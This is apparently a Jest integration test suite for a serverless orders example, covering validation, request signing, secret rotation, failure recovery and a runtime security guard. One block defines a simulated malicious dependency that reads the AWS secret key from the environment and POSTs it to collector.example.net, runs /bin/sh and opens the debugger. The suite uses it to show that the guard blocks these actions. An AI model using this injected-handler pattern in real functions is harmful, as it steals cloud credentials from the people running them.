import { randomUUID } from 'crypto';
import * as fs from 'fs';
import * as path from 'path';
import { DescribeSecretCommand, GetResourcePolicyCommand, GetSecretValueCommand, PutSecretValueCommand } from '@aws-sdk/client-secrets-manager';
import { GetQueueAttributesCommand, ReceiveMessageCommand, SendMessageCommand, SQSClient } from '@aws-sdk/client-sqs';
import { compareColdStarts, describeColdStarts } from '../../stage/cold-starts';
import { DeployedFunction } from '../../stage/deployment/deployment';
import { CLIENT, OrdersStage } from '../../stage/orders';
import { tour } from '../../stage/tour';

jest.setTimeout(900_000);

let stage: OrdersStage;
let sqs: SQSClient;

beforeAll(async () => {
  stage = new OrdersStage();
  await stage.start();
  sqs = new SQSClient(stage.moto.clientConfig);
});

afterAll(() => stage?.stop());

afterEach(async () => {
  stage.aws.recover();
  stage.provider.isDown = false;
  stage.provider.beforeAnswer = async () => undefined;
  await stage.queue.drain();
  expect(stage.internet.problems).toEqual([]);
});

const order = (changes: object = {}) => ({ id: randomUUID(), amount: 12, currency: 'EUR', ...changes });

const create = (body: unknown) => stage.call('POST', '/orders', body);

const status = (id: string) => stage.call('GET', `/orders/${id}`);

async function send(body: unknown): Promise<void> {
  await sqs.send(new SendMessageCommand({ QueueUrl: stage.queueUrl('Queue'), MessageBody: typeof body === 'string' ? body : JSON.stringify(body) }));
}

/** What is in a queue, as JSON; it stays out of sight from now on. */
async function messagesIn(queue: string): Promise<any[]> {
  const request = { QueueUrl: stage.queueUrl(queue), MaxNumberOfMessages: 10, VisibilityTimeout: 3600 };
  const { Messages = [] } = await sqs.send(new ReceiveMessageCommand(request));
  return Messages.map(({ Body }) => JSON.parse(Body!));
}

/** The lines of a log that are JSON of a type. */
function lines(log: string, type: string): any[] {
  return log.split('\n').filter((line) => line.startsWith(`{"type":"${type}"`)).map((line) => JSON.parse(line));
}

/** The sum of a metric in a log, as CloudWatch reads it from the embedded metric format. */
function metric(log: string, type: string, name: string): number {
  const isCounted = ({ _aws }: any) => _aws?.CloudWatchMetrics.some(({ Metrics }: any) => Metrics.some(({ Name }: any) => Name === name));
  return lines(log, type).filter(isCounted).reduce((sum, line) => sum + line[name], 0);
}

async function labels(): Promise<Record<string, string>> {
  const { VersionIdsToStages = {} } = await stage.secretsManager.send(new DescribeSecretCommand({ SecretId: stage.secretArn }));
  return Object.fromEntries(Object.entries(VersionIdsToStages).flatMap(([id, stages]) => stages.map((label) => [label, id])));
}

async function keyIn(VersionId: string): Promise<string> {
  return (await stage.secretsManager.send(new GetSecretValueCommand({ SecretId: stage.secretArn, VersionId }))).SecretString!;
}

async function currentKey(): Promise<string> {
  return keyIn((await labels()).AWSCURRENT);
}

describe('examples/orders', () => {
  test('is led through by npm run stage', async () => {
    const steps = [];
    for await (const step of tour(stage)) steps.push(step);
    expect(steps.length).toBeGreaterThan(7);
    expect(steps.filter(({ isRight }) => !isRight)).toEqual([]);
  });

  test('an order is created, queued, paid at the provider, stored, and its status read', async () => {
    const first = order();
    expect(await create(first)).toMatchObject({ status: 202, body: JSON.stringify({ id: first.id }) });
    expect((await status(first.id)).status).toBe(404);
    await stage.queue.drain();
    expect(stage.provider.charges.get(first.id)).toEqual({ amount: 12, currency: 'EUR' });
    expect(JSON.parse((await status(first.id)).body)).toEqual({ ...first, paid: true });
    expect(stage.aws.rejected).toEqual([]);
  });

  test.each([
    ['without an amount', { amount: undefined }],
    ['with an amount of 0', { amount: 0 }],
    ['with an amount as text', { amount: '12' }],
    ['with a currency that is not known', { currency: 'XXX' }],
    ['with a property that is not known', { admin: true }],
    ['with an id that is none', { id: '1' }],
  ])('a body %s is rejected by the API, and gets to no function', async (_, changes) => {
    const { logs } = stage.fn('CreateOrder');
    expect(await create(order(changes))).toMatchObject({ status: 400, body: '{"message":"Bad request"}', headers: { 'x-amzn-errortype': 'BAD_REQUEST_BODY' } });
    expect(stage.fn('CreateOrder').logs).toBe(logs);
  });

  test.each(['', '{', '[]', 'null', '"text"'])('a body that reads %j is rejected', async (body) => {
    expect((await stage.client.send('POST', '/prod/orders', body, { credentials: CLIENT })).status).toBe(400);
  });

  test('a parameter that is no id is rejected by the function, before its handler', async () => {
    const calls = stage.aws.calls.length;
    expect((await status('not-an-id')).status).toBe(400);
    expect(stage.aws.calls).toHaveLength(calls);
    expect(metric(stage.fn('OrderStatus').logs, 'event-validation', 'Rejected')).toBe(1);
  });

  test('what the validators of API Gateway do not check, the function checks: a property twice', async () => {
    const { id } = order();
    const body = `{"id":"${id}","amount":1,"amount":1000,"currency":"EUR"}`;
    expect(await stage.client.send('POST', '/prod/orders', body, { credentials: CLIENT })).toMatchObject({ status: 400, body: expect.stringContaining('duplicate-key') });
    expect(await stage.queue.poll()).toBe(false);
  });

  test('an invalid message goes to quarantine, and valid ones of its batch are processed', async () => {
    const [good, bad] = [order(), order({ amount: -1 })];
    await send(good);
    await send(bad);
    await stage.queue.drain();
    expect(stage.provider.charges.has(good.id)).toBe(true);
    expect(stage.provider.charges.has(bad.id)).toBe(false);
    expect(await messagesIn('ProcessOrderEventValidationQuarantine')).toMatchObject([{ reason: { rule: 'minimum', field: '/amount' } }]);
    expect(await messagesIn('Failed')).toEqual([]);
  });

  test('the secret is rotated in the middle of the load, and no order is lost or paid by a key that does not work', async () => {
    const before = await currentKey();
    const orders = Array.from({ length: 30 }, () => order());
    const load = (async () => {
      for (const each of orders) {
        expect((await create(each)).status).toBe(202);
        await stage.queue.poll();
      }
    })();
    const rotated = await stage.rotation.run(await stage.rotation.begin());
    // The provider drops the old key: orders after this are paid by the new one.
    stage.provider.keys.delete(before);
    await load;
    await stage.queue.drain();
    expect(rotated).toBeUndefined();
    expect(await currentKey()).not.toBe(before);
    expect(orders.filter(({ id }) => !stage.provider.charges.has(id))).toEqual([]);
    expect(await messagesIn('Failed')).toEqual([]);
    const logs = ['ProcessOrder', 'RotatePaymentKey', 'PaymentKeyRotationFunction'].map((id) => stage.fn(id).logs).join('');
    for (const key of [before, await currentKey()]) expect(logs).not.toContain(key);
  });
});

describe('an attack by a dependency', () => {
  /** Sends the credentials away, starts a program, and opens a debugger; it hides what goes wrong. */
  const ATTACK = `
    const steal = async () => {
      const attempt = async (work) => { try { return await work(); } catch (error) { return error.code ?? error.cause?.code ?? error.message; } };
      const stolen = process.env.AWS_SECRET_ACCESS_KEY + ' of ' + process.env.AWS_LAMBDA_FUNCTION_NAME;
      return {
        sent: await attempt(async () => (await fetch('https://collector.example.net/', { method: 'POST', body: stolen })).status),
        shell: await attempt(() => require('child_process').execFileSync('/bin/sh', ['-c', 'echo started']).toString().trim()),
        inspector: await attempt(() => { require('inspector').open(0); return 'open'; }),
      };
    };
    const { handler } = require('./original');
    exports.handler = async (...event) => {
      console.log('ATTACK ' + JSON.stringify(await steal()));
      return handler(...event);
    };
  `;

  function attacked(): Partial<DeployedFunction> {
    const task = stage.copyOf(stage.fn('ProcessOrder').deployed.task);
    fs.renameSync(path.join(task, 'process.js'), path.join(task, 'original.js'));
    fs.writeFileSync(path.join(task, 'process.js'), ATTACK);
    return { task };
  }

  const outcome = (logs: string) => JSON.parse(/ATTACK (\{.*\})/.exec(logs)![1]);

  test('succeeds without the guard', async () => {
    const { AWS_LAMBDA_EXEC_WRAPPER, SEC3_RUNTIME_POLICY, ...variables } = stage.fn('ProcessOrder').deployed.variables;
    const paid = order();
    await send(paid);
    await stage.with('ProcessOrder', { ...attacked(), variables }, async (changed) => {
      await stage.queue.drain();
      expect(outcome(changed.logs)).toEqual({ sent: 200, shell: 'started', inspector: 'open' });
    });
    expect(stage.stolen.splice(0)).toEqual([expect.stringMatching(/^secret of Orders-ProcessOrder/)]);
    expect(stage.provider.charges.has(paid.id)).toBe(true);
  });

  test('is blocked and counted under the guard, and the order is paid all the same', async () => {
    const paid = order();
    await send(paid);
    await stage.with('ProcessOrder', attacked(), async (changed) => {
      await stage.queue.drain();
      const { sent, shell, inspector } = outcome(changed.logs);
      expect([sent, shell, inspector]).toEqual([expect.stringMatching(/^(ENOTFOUND|EACCES)$/), expect.stringMatching(/^(EACCES|EPERM|ERR_ACCESS_DENIED)$/), expect.stringMatching(/EACCES|EPERM|DENIED/)]);
      const events = lines(changed.logs, 'event').filter(({ action }) => action === 'blocked');
      expect(new Set(events.map(({ category }) => category))).toEqual(new Set(['network', 'childProcess', 'inspector']));
      expect(metric(changed.logs, 'event', 'Blocked')).toBeGreaterThanOrEqual(3);
      expect(events[0]).toMatchObject({ functionName: changed.deployed.name, requestId: expect.stringMatching(/^[0-9a-f-]{36}$/) });
    });
    expect(stage.stolen).toEqual([]);
    expect(stage.provider.charges.has(paid.id)).toBe(true);
  });
});

describe('a request that no one known has signed', () => {
  const body = JSON.stringify(order());

  test.each([
    ['without a signature', {}, 'MISSING_AUTHENTICATION_TOKEN'],
    ['by a key that is not known', { credentials: { accessKeyId: 'AKIAUNKNOWN', secretAccessKey: 'client' } }, 'ACCESS_DENIED'],
    ['with a wrong secret', { credentials: { ...CLIENT, secretAccessKey: 'guessed' } }, 'INVALID_SIGNATURE'],
    ['an hour ago', { credentials: CLIENT, clock: -3_600_000 }, 'EXPIRED_TOKEN'],
    ['for another body', { credentials: CLIENT, sentBody: JSON.stringify(order({ amount: 1 })) }, 'INVALID_SIGNATURE'],
  ])('is rejected: %s', async (_, options, type) => {
    const { logs } = stage.fn('CreateOrder');
    expect(await stage.client.send('POST', '/prod/orders', body, options)).toMatchObject({ status: 403, body: '{"message":"Request rejected"}', headers: { 'x-amzn-errortype': type } });
    expect(stage.fn('CreateOrder').logs).toBe(logs);
  });

  test('is rejected where there is no such endpoint', async () => {
    expect((await stage.call('DELETE', '/orders')).status).toBe(403);
    expect((await stage.client.send('POST', '/orders', body, { credentials: CLIENT })).status).toBe(403);
  });
});

describe('a function that is not as it should be does not run', () => {
  /** Has CreateOrder fail: nothing is queued, and the caller gets to know nothing but that. */
  async function fails(changes: Partial<DeployedFunction>, why: RegExp): Promise<void> {
    await stage.with('CreateOrder', changes, async (changed) => {
      expect(await create(order())).toMatchObject({ status: 502, body: '{"message":"Internal error"}' });
      expect(changed.logs).toMatch(why);
    });
    expect(await stage.queue.poll()).toBe(false);
  }

  const variables = (changes: Record<string, string>) => ({ variables: { ...stage.fn('CreateOrder').deployed.variables, ...changes } });

  function changedLayers(change: (opt: string) => void): Partial<DeployedFunction> {
    const opt = stage.copyOf(stage.fn('CreateOrder').deployed.opt);
    change(opt);
    return { opt };
  }

  function changedCode(change: (task: string) => void): Partial<DeployedFunction> {
    const task = stage.copyOf(stage.fn('CreateOrder').deployed.task);
    change(task);
    return { task };
  }

  test('without a runtime policy', () => fails(variables({ SEC3_RUNTIME_POLICY: '' }), /SEC3_RUNTIME_POLICY/));

  test('with a policy that is no JSON', () => fails(variables({ SEC3_RUNTIME_POLICY: '{"version":1' }), /SEC3_RUNTIME_POLICY/));

  test('with a policy that has a mode that is not known', () => {
    const policy = stage.fn('CreateOrder').deployed.variables.SEC3_RUNTIME_POLICY.replace('"network":"block"', '"network":"blok"');
    return fails(variables({ SEC3_RUNTIME_POLICY: policy }), /modes\/network/);
  });

  test('with a policy that lacks a category', () => {
    const policy = stage.fn('CreateOrder').deployed.variables.SEC3_RUNTIME_POLICY.replace('"network":"block",', '');
    return fails(variables({ SEC3_RUNTIME_POLICY: policy }), /network/);
  });

  test('without the wrapper', () => fails(changedLayers((opt) => fs.rmSync(path.join(opt, 'sec3-runtime-guard/wrapper'))), /wrapper: does not exist/));

  test('with a wrapper that may not be executed', () => fails(changedLayers((opt) => fs.chmodSync(path.join(opt, 'sec3-runtime-guard/wrapper'), 0o644)), /wrapper: is not an executable/));

  test('without the native library of the guard', () =>
    fails(changedLayers((opt) => fs.rmSync(path.join(opt, 'sec3-runtime-guard/native'), { recursive: true })), /native/));

  test('without the JavaScript layer of the guard', () => fails(changedLayers((opt) => fs.rmSync(path.join(opt, 'sec3-runtime-guard/node/guard.cjs'))), /guard\.cjs/));

  test('without the validator', () => fails(changedLayers((opt) => fs.rmSync(path.join(opt, 'sec3-event-validator'), { recursive: true })), /Cannot find module 'handler'/));

  test('without the schemas of the validator', () =>
    fails(changedLayers((opt) => fs.rmSync(path.join(opt, 'sec3-event-validator/schemas.mjs'))), /schemas\.mjs/));

  test('with another handler than the validator can find', () => fails(variables({ SEC3_EVENT_HANDLER: 'missing.handler' }), /missing/));

  test('with code that fails at init', () => fails(changedCode((task) => fs.writeFileSync(path.join(task, 'create.js'), 'throw new Error("broken at init");')), /broken at init/));

  test('with code that no one but root may read', () => fails(changedCode((task) => fs.chmodSync(path.join(task, 'create.js'), 0o600)), /EACCES|permission denied/i));

  test('with an answer that API Gateway does not understand', () =>
    fails(changedCode((task) => fs.writeFileSync(path.join(task, 'create.js'), 'exports.handler = async () => "done";')), /END RequestId/));

  test('beyond its time', () =>
    fails({ ...changedCode((task) => fs.writeFileSync(path.join(task, 'create.js'), 'exports.handler = () => new Promise(() => setInterval(() => 0, 1000));')), timeout: 1 }, /Task timed out after 1.00 seconds/));
});

describe('what goes wrong on the way loses no order', () => {
  test('a queue that can not be reached: the caller is told that nothing was accepted', async () => {
    stage.aws.fail('SendMessage', 'unreachable');
    const lost = order();
    expect((await create(lost)).status).toBe(502);
    expect(await stage.queue.poll()).toBe(false);
  });

  test('a table that is throttled: the order comes again, and is charged once', async () => {
    const [id, failed] = [order(), stage.queue.failed];
    await create(id);
    stage.aws.fail('PutItem', 'throttled');
    await stage.queue.poll();
    expect(stage.queue.failed).toBe(failed + 1);
    expect((await status(id.id)).status).toBe(404);
    stage.aws.recover();
    await stage.queue.drain();
    expect(JSON.parse((await status(id.id)).body)).toMatchObject({ paid: true });
  });

  test.each(['throttled', 'denied', 'unreachable'] as const)('a secret that is %s: nothing is charged, and the batch comes again', async (fault) => {
    const each = order();
    await create(each);
    stage.aws.fail('GetSecretValue', fault);
    await stage.queue.poll();
    expect(stage.provider.charges.has(each.id)).toBe(false);
    stage.aws.recover();
    await stage.queue.drain();
    expect(stage.provider.charges.has(each.id)).toBe(true);
  });

  test('a provider that is down: the order comes again', async () => {
    const each = order();
    await create(each);
    stage.provider.isDown = true;
    await stage.queue.poll();
    stage.provider.isDown = false;
    expect((await status(each.id)).status).toBe(404);
    await stage.queue.drain();
    expect((await status(each.id)).status).toBe(200);
  });

  test('a batch of which a part fails: that part alone comes again, and ends in the dead-letter queue', async () => {
    const [first, declined, last] = [order(), order(), order()];
    stage.provider.declined.add(declined.id);
    for (const each of [first, declined, last]) await send(each);
    const { received, failed } = stage.queue;
    await stage.queue.drain();
    // Three times the declined one, and once each of the others.
    expect([stage.queue.received - received, stage.queue.failed - failed]).toEqual([5, 3]);
    expect([first, declined, last].map(({ id }) => stage.provider.charges.has(id))).toEqual([true, false, true]);
    expect(await messagesIn('Failed')).toEqual([declined]);
    expect((await status(declined.id)).status).toBe(404);
  });

  test.each([
    ['throws', 'async () => { throw new Error("broken"); }'],
    ['names a message that was not sent', 'async () => ({ batchItemFailures: [{ itemIdentifier: "other" }] })'],
    ['names no message', 'async () => ({ batchItemFailures: [{}] })'],
    ['ends its process', 'async () => process.exit(0)'],
  ])('a handler that %s: the batch comes again', async (_, handler) => {
    const each = order();
    await create(each);
    const task = stage.copyOf(stage.fn('ProcessOrder').deployed.task);
    fs.writeFileSync(path.join(task, 'process.js'), `exports.handler = ${handler};`);
    const { failed } = stage.queue;
    await stage.with('ProcessOrder', { task }, () => stage.queue.poll());
    expect(stage.queue.failed).toBe(failed + 1);
    expect(stage.provider.charges.has(each.id)).toBe(false);
    await stage.queue.drain();
    expect(stage.provider.charges.has(each.id)).toBe(true);
  });

  test('more invocations at once than a function may have: callers are told, and what was accepted is queued', async () => {
    const orders = Array.from({ length: 8 }, () => order());
    const answers = await Promise.all(orders.map(create));
    const accepted = orders.filter((_, index) => answers[index].status === 202);
    expect(new Set(answers.map(({ status: code }) => code))).toEqual(new Set([202, 502]));
    await stage.queue.drain();
    expect(orders.filter(({ id }) => stage.provider.charges.has(id))).toEqual(accepted);
  });

  test('an invalid message that the quarantine does not take: it comes again, and is not dropped', async () => {
    const bad = order({ currency: 'XXX' });
    await send(bad);
    stage.aws.fail('SendMessageBatch', 'unreachable');
    const { failed } = stage.queue;
    await stage.queue.poll();
    expect(stage.queue.failed).toBe(failed + 1);
    stage.aws.recover();
    await stage.queue.drain();
    expect(await messagesIn('ProcessOrderEventValidationQuarantine')).toMatchObject([{ reason: { field: '/currency' } }]);
  });

  test('an environment that is killed in the middle of a batch: the batch comes again', async () => {
    const each = order();
    await create(each);
    const { failed } = stage.queue;
    stage.provider.beforeAnswer = () => stage.fn('ProcessOrder').kill();
    await stage.queue.poll();
    expect(stage.queue.failed).toBe(failed + 1);
    expect(stage.provider.charges.has(each.id)).toBe(true);
    expect((await status(each.id)).status).toBe(404);
    stage.provider.beforeAnswer = async () => undefined;
    await stage.queue.drain();
    expect((await status(each.id)).status).toBe(200);
  });

  test('a function without a variable that it needs: the batch comes again', async () => {
    const each = order();
    await create(each);
    const { PAYMENT_KEY_ARN, ...variables } = stage.fn('ProcessOrder').deployed.variables;
    const { failed } = stage.queue;
    await stage.with('ProcessOrder', { variables }, () => stage.queue.poll());
    expect(stage.aws.rejected.splice(0)).toHaveLength(1);
    expect(stage.queue.failed).toBe(failed + 1);
    expect(stage.provider.charges.has(each.id)).toBe(false);
    await stage.queue.drain();
    expect(stage.provider.charges.has(each.id)).toBe(true);
  });

  test('a provider that the policy does not allow: nothing is charged, and that is counted', async () => {
    const each = order();
    await create(each);
    const { variables } = stage.fn('ProcessOrder').deployed;
    const SEC3_RUNTIME_POLICY = variables.SEC3_RUNTIME_POLICY.replace('payments.example.com', 'payments.example.org');
    await stage.with('ProcessOrder', { variables: { ...variables, SEC3_RUNTIME_POLICY } }, async (changed) => {
      await stage.queue.poll();
      expect(metric(changed.logs, 'event', 'Blocked')).toBeGreaterThan(0);
    });
    expect(stage.provider.charges.has(each.id)).toBe(false);
    await stage.queue.drain();
    expect(stage.provider.charges.has(each.id)).toBe(true);
  });
});

test('cold starts with the guard and the validator are compared with those without', async () => {
  const comparison = await compareColdStarts(stage, 3);
  process.stdout.write(`${describeColdStarts(comparison)}\n`);
  expect([...comparison.keys()]).toEqual(['neither', 'validator', 'guard', 'both']);
  for (const milliseconds of comparison.values()) expect(milliseconds).toBeGreaterThan(0);
});

describe('the secret', () => {
  const reads = `
    const { SecretsManagerClient, GetSecretValueCommand } = require('@aws-sdk/client-secrets-manager');
    exports.handler = async () => {
      try {
        return { statusCode: 200, body: (await new SecretsManagerClient({}).send(new GetSecretValueCommand({ SecretId: process.env.SECRET }))).SecretString };
      } catch (error) {
        return { statusCode: 403, body: error.name };
      }
    };
  `;

  test('is not read by the code of a function that was not granted it', async () => {
    const { deployed } = stage.fn('OrderStatus');
    const task = stage.copyOf(deployed.task);
    fs.writeFileSync(path.join(task, 'status.js'), reads);
    await stage.with('OrderStatus', { task, variables: { ...deployed.variables, SECRET: stage.secretArn } }, async () => {
      expect(await status(randomUUID())).toMatchObject({ status: 403, body: 'AccessDeniedException' });
    });
    expect(stage.aws.rejected.splice(0)).toEqual([expect.stringMatching(/^GetSecretValue by Orders-OrderStatus/)]);
  });

  test('is not read with the role of a function that was granted it, by another function', async () => {
    const { deployed } = stage.fn('OrderStatus');
    const task = stage.copyOf(deployed.task);
    fs.writeFileSync(path.join(task, 'status.js'), reads);
    const { role } = stage.fn('ProcessOrder').deployed;
    await stage.with('OrderStatus', { task, role, variables: { ...deployed.variables, SECRET: stage.secretArn } }, async () => {
      expect((await status(randomUUID())).status).toBe(403);
    });
    expect(stage.aws.rejected.splice(0)).toHaveLength(1);
  });
});

describe('a rotation that fails leaves the key that works', () => {
  /** Runs a rotation that has to fail at a step; the current key is what it was. */
  async function failsAt(step: string, token: string): Promise<void> {
    const [before, { AWSCURRENT }] = [await currentKey(), await labels()];
    expect(await stage.rotation.run(token)).toBe(step);
    expect(await currentKey()).toBe(before);
    expect((await labels()).AWSCURRENT).toBe(AWSCURRENT);
    expect(stage.provider.keys.has(before)).toBe(true);
  }

  test('where the provider issues none, and goes on where it does again', async () => {
    const [token, before] = [await stage.rotation.begin(), await currentKey()];
    stage.provider.isDown = true;
    await failsAt('createSecret', token);
    stage.provider.isDown = false;
    expect(await stage.rotation.run(token)).toBeUndefined();
    expect(await currentKey()).not.toBe(before);
  });

  test('where the new one does not work', async () => {
    const token = await stage.rotation.begin();
    expect((await stage.rotation.step('createSecret', token)).functionError).toBeUndefined();
    stage.provider.keys.delete(await keyIn(token));
    await failsAt('testSecret', token);
  });

  test('where its pending version has expired, since another rotation has begun', async () => {
    const expired = await stage.rotation.begin();
    const token = await stage.rotation.begin();
    await failsAt('createSecret', expired);
    expect(stage.fn('PaymentKeyRotationFunction').logs).toContain('AWSPENDING');
    expect(await stage.rotation.run(token)).toBeUndefined();
    expect(await currentKey()).toBe(await keyIn(token));
  });

  test('where Secrets Manager is throttled in its last step, and goes on afterwards', async () => {
    const token = await stage.rotation.begin();
    stage.aws.fail('UpdateSecretVersionStage', 'throttled');
    await failsAt('finishSecret', token);
    stage.aws.recover();
    expect(await stage.rotation.run(token)).toBeUndefined();
  });

  test('where the adapter is killed at its call', async () => {
    const token = await stage.rotation.begin();
    await stage.with('RotatePaymentKey', { handler: 'missing.handler' }, () => failsAt('createSecret', token));
    expect(await stage.rotation.run(token)).toBeUndefined();
  });

  test('where the secret is another one', async () => {
    const token = await stage.rotation.begin();
    const other = stage.secretArn.replace(/:secret:.*/, ':secret:other-AbCdEf');
    expect((await stage.rotation.step('createSecret', token, other)).payload).toContain('RotationRejected');
    expect(await stage.rotation.run(token)).toBeUndefined();
  });

  test('where someone stored a key by hand in the meantime, which stays', async () => {
    const key = stage.provider.issue();
    await stage.secretsManager.send(new PutSecretValueCommand({ SecretId: stage.secretArn, SecretString: key }));
    expect(await currentKey()).toBe(key);
    const each = order();
    await create(each);
    await stage.queue.drain();
    expect(stage.provider.charges.has(each.id)).toBe(true);
  });
});

test('what moto’s CloudFormation leaves out is there', async () => {
  const { moto, deployment } = stage;
  const api = deployment.ref(deployment.logicalId('AWS::ApiGateway::RestApi'));
  const ofApi = async (what: string) => JSON.parse(await moto.rest('apigateway', 'GET', `/restapis/${api}/${what}`));
  const count = (type: string) => Object.values(deployment.template.Resources).filter(({ Type }) => Type === type).length;
  expect((await moto.query('monitoring', { Action: 'DescribeAlarms' })).match(/<AlarmName>/g)).toHaveLength(count('AWS::CloudWatch::Alarm'));
  expect((await ofApi('gatewayresponses')).item).toHaveLength(count('AWS::ApiGateway::GatewayResponse'));
  expect((await ofApi('requestvalidators')).item).toHaveLength(count('AWS::ApiGateway::RequestValidator'));
  expect((await ofApi('models')).item.map(({ name }: any) => name)).toContain(deployment.ref(deployment.logicalId('AWS::ApiGateway::Model')));
  expect(await ofApi('stages/prod')).toMatchObject({ stageName: 'prod' });
  expect(JSON.parse(await moto.rest('apigateway', 'GET', '/account')).cloudwatchRoleArn).toContain('Sec3ApiLogRole');
  const { trailList: trails } = await moto.json('cloudtrail', 'com.amazonaws.cloudtrail.v20131101.CloudTrail_20131101.DescribeTrails', {});
  expect(trails).toHaveLength(count('AWS::CloudTrail::Trail'));
  expect((await moto.json('wafv2', 'AWSWAF_20190729.ListWebACLs', { Scope: 'REGIONAL' })).WebACLs).toHaveLength(1);
  const { Attributes } = await sqs.send(new GetQueueAttributesCommand({ QueueUrl: stage.queueUrl('Queue'), AttributeNames: ['All'] }));
  expect(Attributes!.Policy).toContain('aws:SecureTransport');
  expect(Attributes!.RedrivePolicy).toContain('"maxReceiveCount": 3');
  expect((await stage.secretsManager.send(new GetResourcePolicyCommand({ SecretId: stage.secretArn }))).ResourcePolicy).toContain('DenyOtherReaders');
});
